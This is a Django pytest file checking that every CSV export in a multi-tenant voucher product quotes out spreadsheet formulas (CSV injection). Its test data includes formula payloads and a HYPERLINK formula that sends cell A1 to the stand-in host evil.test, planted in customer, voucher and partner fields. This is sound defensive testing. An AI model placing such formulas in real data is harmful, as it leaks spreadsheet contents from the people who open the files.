"""Spreadsheet formulas in CSV downloads (OWASP "CSV injection"): every export the product
writes goes through apps.core.csv, whose cells defuse text a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django_tenants.utils import schema_context

from apps.brand.models import PartnerProgramStats
from apps.core.csv import cell, csv_text
from apps.customers.import_sql import Outcome
from apps.customers.models import CustomerImport
from apps.redemptions.models import RedemptionAttempt
from apps.tenancy.models import Partner
from tests.factories import (
    CampaignFactory,
    CustomerFactory,
    DistributionFactory,
    OutboxMessageFactory,
    ProgramFactory,
    VoucherFactory,
)

FORMULAS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", '=HYPERLINK("x")']


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, 0, 12, Decimal("-1.50"), -2.5, "-5", "+14155550100", "Ann", "a=b", ""]
)
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert cell(value) == value
    assert type(cell(value)) is type(value)


def test_text_documents_use_the_same_cells():
    text = csv_text(header=["row", "=column"], rows=[(2, "@bad"), (-3, "fine")])
    assert list(csv.reader(io.StringIO(text))) == [
        ["row", "'=column"],
        ["2", "'@bad"],
        ["-3", "fine"],
    ]


HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def _partner_data(schema: str, make) -> None:
    with schema_context(schema):
        make()


def _codes(partner_a):
    with schema_context(partner_a.schema_name):
        campaign = CampaignFactory()
        VoucherFactory(campaign=campaign, code=HOSTILE)
    return f"/p/alpha/campaigns/{campaign.pk}/codes.csv"


def _customers(partner_a):
    _partner_data(partner_a.schema_name, lambda: CustomerFactory(name=HOSTILE))
    return "/p/alpha/customers/export.csv"


def _distributions(partner_a):
    _partner_data(partner_a.schema_name, lambda: DistributionFactory(name=HOSTILE))
    return "/p/alpha/distributions/export.csv"


def _outbox(partner_a):
    _partner_data(partner_a.schema_name, lambda: OutboxMessageFactory(last_error=HOSTILE))
    return "/p/alpha/channels/outbox/?format=csv"


def _attempts(partner_a):
    def make():
        RedemptionAttempt.objects.create(
            action="redeem", code=HOSTILE, channel="api", ok=False, reason="not_found",
            order_amount=-500,
        )  # fmt: skip

    _partner_data(partner_a.schema_name, make)
    return "/p/alpha/merchants/redemptions/attempts.csv"


def _brand(partner_a):
    Partner.objects.filter(pk=partner_a.pk).update(name=HOSTILE)
    PartnerProgramStats.objects.create(partner=partner_a, program=ProgramFactory(), allocated=1)
    return "/brand/export.csv"


def _import_errors(partner_a):
    # The report quotes the uploaded file's own column names, written by the import job.
    report = Outcome(errors=[(2, HOSTILE, "-not an email")]).report_csv()
    with schema_context(partner_a.schema_name):
        done = CustomerImport.objects.create(filename="x.csv", content="", error_report=report)
    return f"/p/alpha/customers/imports/{done.pk}/errors.csv"


@pytest.mark.parametrize(
    "export",
    [_codes, _customers, _distributions, _outbox, _attempts, _brand, _import_errors],
    ids=lambda f: f.__name__.strip("_"),
)
def test_every_export_defuses_a_formula(client, brand_admin, partner_a, export):
    # given a value someone typed that a spreadsheet would run
    url = export(partner_a)
    client.force_login(brand_admin)
    # when
    response = client.get(url)
    # then
    assert response.status_code == 200
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    cells = [value for row in csv.reader(io.StringIO(body)) for value in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    assert not [c for c in cells if c[:1] in ("=", "@") or c.startswith(("+S", "-2+"))]
    if export is _attempts:
        assert "-500" in cells  # an amount stays a number
